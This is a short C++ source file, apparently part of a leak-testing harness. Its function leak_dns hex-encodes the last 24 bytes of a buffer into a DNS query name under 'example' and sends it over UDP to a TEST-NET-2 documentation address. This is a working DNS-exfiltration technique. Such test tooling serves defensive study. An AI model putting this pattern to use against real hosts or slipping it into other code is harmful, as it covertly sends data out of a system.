// Asks a name server for a name that holds bytes.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include <iterator>
#include <vector>

#include "all_leaks.hpp"
#include "planting.hpp"

namespace lethe::leaks {
int leak_dns(Bytes bytes, const char*) {
  const int socket = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (socket < 0) return errno;
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_port = htons(53);
  to.sin_addr.s_addr = htonl(0xc6336435);   // TEST-NET-2 (RFC 5737)
  const std::string label = in_hex(bytes.last(24), 24);
  std::vector<std::uint8_t> query{0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, static_cast<std::uint8_t>(label.size())};
  query.insert(query.end(), label.begin(), label.end());
  constexpr std::uint8_t rest[] = {7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 0, 0, 1, 0, 1};
  query.insert(query.end(), std::begin(rest), std::end(rest));
  const ssize_t sent = ::sendto(socket, query.data(), query.size(), MSG_DONTWAIT, reinterpret_cast<const sockaddr*>(&to), sizeof to);
  const int error = sent > 0 ? 0 : errno;
  ::close(socket);
  return error;
}

}  // namespace lethe::leaks
